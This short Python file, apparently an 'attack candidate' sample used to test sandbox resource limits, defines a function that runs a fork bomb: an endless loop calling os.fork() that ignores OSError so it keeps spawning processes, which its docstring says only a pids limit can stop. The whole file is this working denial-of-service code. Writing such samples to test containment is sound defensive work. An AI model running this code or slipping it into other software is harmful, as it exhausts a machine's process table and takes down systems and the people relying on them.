# ruff: noqa  (attack candidate: deliberately bad code)
"""Fork bomb that swallows EAGAIN and keeps trying: only the pids limit can stop it."""

import os


def launch(x, y, out):
    while True:
        try:
            os.fork()
        except OSError:
            pass
